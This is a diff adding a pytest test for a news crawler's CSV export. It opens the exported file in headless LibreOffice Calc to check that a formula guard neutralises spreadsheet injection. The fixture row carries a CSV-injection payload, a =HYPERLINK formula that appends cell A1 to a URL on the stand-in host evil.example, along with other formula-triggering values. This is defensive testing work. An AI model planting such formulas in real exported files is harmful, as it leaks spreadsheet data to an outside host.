@@ -3,9 +3,13 @@ built HTML, no post left out, and `newscrawl import-posts` of the export gives t
 from __future__ import annotations
 
 import json
+import os
 import re
+import shutil
 import subprocess
+import zipfile
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 from parsel import Selector
@@ -126,3 +130,69 @@ def test_the_export_imports_back_with_the_same_values(built, tmp_path: Path) -> 
     yaml_back = {back[f"NW2021123122326332{i:02d}"]["title"] for i in range(len(YAML))}
     assert yaml_back == set(YAML)
     assert back["202205262391921712"]["published_at"] == "2022-05-26T00:00:00+08:00"
+
+
+# --- the CSV in a real spreadsheet: LibreOffice Calc ---------------------------------------------------------
+
+XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+CSV_ROW = {**BASE, "id": "NW202112312232633400", "title": '=HYPERLINK("http://evil.example/?q="&A1,"点我看南通新闻")',
+           "authors": ["陈静", "黄天玲", "俞新美"], "tags": ["南通日报新闻", "要闻"], "source": "+86 513 8511 0000",
+           "byline_raw": "-1+2", "content_text": '他说："你好，世界"\n第二段 @SUM(1,2)'}
+CSV_COLUMNS = "id,title,media,authors,tags,source,byline_raw,content_text"
+
+
+def needs_soffice() -> str:
+    exe = shutil.which("soffice")
+    if not exe:
+        if os.environ.get("CI"):
+            pytest.fail("soffice is not installed (CI must install Debian's libreoffice-calc package, see .ci/run)")
+        pytest.skip("soffice (LibreOffice) is not installed")
+    return exe
+
+
+def xlsx_cells(path: Path) -> dict[str, tuple[str | None, str | None]]:
+    """Cell reference → (formula or None, value as the sheet holds it) of the first sheet of an .xlsx."""
+    with zipfile.ZipFile(path) as z:
+        names = z.namelist()
+        shared = ["".join(t.text or "" for t in si.iter(f"{XLSX}t"))
+                  for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{XLSX}si")
+                  ] if "xl/sharedStrings.xml" in names else []
+        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
+    cells = {}
+    for c in sheet.iter(f"{XLSX}c"):
+        f, v = c.find(f"{XLSX}f"), c.find(f"{XLSX}v")
+        value = v.text if v is not None else "".join(t.text or "" for t in c.iter(f"{XLSX}t")) or None
+        cells[c.get("r")] = (f.text if f is not None else None, shared[int(value)] if c.get("t") == "s" else value)
+    return cells
+
+
+def test_csv_in_libreoffice_calc(tmp_path: Path) -> None:
+    """`newscrawl export --format csv`, opened by LibreOffice Calc (UTF-8, comma; formulas evaluated, its
+    command-line default): Chinese intact, lists joined with 、, no BOM in the first cell, and no cell a formula.
+    The guard's ' stays the first character of a guarded cell (Calc, like Excel opening a CSV, shows it): the
+    price of the guard, documented in docs/usage.md. The same row without the guard runs =HYPERLINK."""
+    exe = needs_soffice()
+    db_path = tmp_path / "news.db"
+    database = store.open_db(db_path)
+    store.upsert_article(database, CSV_ROW)
+    database.close()
+    for name, guard in (("guarded", "--formula-guard"), ("unguarded", "--no-formula-guard")):
+        result = cli("export", "--format", "csv", "--columns", CSV_COLUMNS, "--out", str(tmp_path / f"{name}.csv"),
+                     "--db", str(db_path), guard)
+        assert result.returncode == 0, result.stderr
+    converted = subprocess.run(
+        [exe, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--infilter=CSV:44,34,76,1",
+         "--convert-to", "xlsx", "--outdir", str(tmp_path / "xlsx"), str(tmp_path / "guarded.csv"),
+         str(tmp_path / "unguarded.csv")], capture_output=True, text=True, timeout=120, check=False)
+    assert converted.returncode == 0, converted.stdout + converted.stderr
+    cells = xlsx_cells(tmp_path / "xlsx" / "guarded.xlsx")
+    header = [cells[f"{col}1"][1] for col in "ABCDEFGH"]
+    assert header == CSV_COLUMNS.split(",")                          # the BOM is read as such, not as text
+    row = {name: cells[f"{col}2"] for name, col in zip(header, "ABCDEFGH")}
+    assert [f for f, _ in row.values()] == [None] * 8                # no formula anywhere
+    assert row["media"][1] == "南通日报" and row["content_text"][1] == CSV_ROW["content_text"]
+    assert (row["authors"][1], row["tags"][1]) == ("陈静、黄天玲、俞新美", "南通日报新闻、要闻")
+    for name in ("title", "source", "byline_raw"):                   # guarded: text, with the ' in front
+        assert row[name][1] == "'" + CSV_ROW[name], name
+    unguarded = xlsx_cells(tmp_path / "xlsx" / "unguarded.xlsx")
+    assert unguarded["B2"][0] == 'HYPERLINK("http://evil.example/?q="&A1,"点我看南通新闻")'   # what the guard prevents
